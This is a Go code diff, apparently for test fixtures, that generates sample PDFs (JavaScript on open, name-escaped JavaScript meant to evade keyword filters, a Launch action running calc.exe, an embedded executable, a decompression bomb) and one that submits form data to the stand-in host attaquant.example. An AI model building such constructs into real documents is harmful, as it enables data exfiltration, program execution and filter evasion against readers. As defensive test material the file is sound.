@@ -31,8 +31,9 @@ func page(catalogExtra string) []string {
 	}
 }
 
-// classic writes objects 1..n with a classic cross-reference table.
-func classic(objs []string, trailerExtra string) []byte {
+// Classic writes objects 1..n (PDF object bodies) with a classic
+// cross-reference table, trailerExtra added to the trailer's dictionary.
+func Classic(objs []string, trailerExtra string) []byte {
 	var b bytes.Buffer
 	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
 	offsets := make([]int, len(objs))
@@ -50,25 +51,25 @@ func classic(objs []string, trailerExtra string) []byte {
 }
 
 // PDF is a valid one-page PDF.
-func PDF() []byte { return classic(page(""), "") }
+func PDF() []byte { return Classic(page(""), "") }
 
 // JavaScriptPDF runs JavaScript when opened (/OpenAction).
 func JavaScriptPDF() []byte {
 	objs := append(page("/OpenAction 5 0 R"), "<< /Type /Action /S /JavaScript /JS (app.alert\\('bonjour'\\)) >>")
-	return classic(objs, "")
+	return Classic(objs, "")
 }
 
 // EscapedJavaScriptPDF writes the JavaScript action's names with #xx
 // escapes (/J#61vaScript, /#4AS), which readers decode.
 func EscapedJavaScriptPDF() []byte {
 	objs := append(page("/OpenAction 5 0 R"), "<< /Type /Action /S /J#61vaScript /#4AS (app.alert\\(1\\)) >>")
-	return classic(objs, "")
+	return Classic(objs, "")
 }
 
 // LaunchPDF starts a program when opened.
 func LaunchPDF() []byte {
 	objs := append(page("/OpenAction 5 0 R"), "<< /Type /Action /S /Launch /F (calc.exe) >>")
-	return classic(objs, "")
+	return Classic(objs, "")
 }
 
 // EmbeddedFilePDF carries a file in its names tree.
@@ -77,13 +78,13 @@ func EmbeddedFilePDF() []byte {
 	objs := append(page("/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>"),
 		"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
 		fmt.Sprintf("<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream", len(data), data))
-	return classic(objs, "")
+	return Classic(objs, "")
 }
 
 // SubmitFormPDF sends its form's data to another site when opened.
 func SubmitFormPDF() []byte {
 	objs := append(page("/OpenAction 5 0 R"), "<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://attaquant.example/x) >> /Flags 4 >>")
-	return classic(objs, "")
+	return Classic(objs, "")
 }
 
 // InflatingPDF is a valid PDF with a compressed stream of mib MiB of
@@ -97,7 +98,7 @@ func InflatingPDF(mib int) []byte {
 	}
 	zw.Close()
 	objs := append(page(""), fmt.Sprintf("<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream", z.Len(), z.Bytes()))
-	return classic(objs, "")
+	return Classic(objs, "")
 }
 
 // TruncatedPDF is PDF cut in the middle, as an interrupted download leaves
@@ -112,7 +113,7 @@ func TruncatedPDF() []byte {
 func EncryptedPDF() []byte {
 	objs := append(page(""), "<< /Filter /Standard /V 1 /R 2 /Length 40 /P -4 "+
 		"/O <"+strings.Repeat("41", 32)+"> /U <"+strings.Repeat("42", 32)+"> >>")
-	return classic(objs, "/Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]")
+	return Classic(objs, "/Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]")
 }
 
 // ObjectStreamPDF is a valid PDF 1.5 whose catalog, pages and page are in
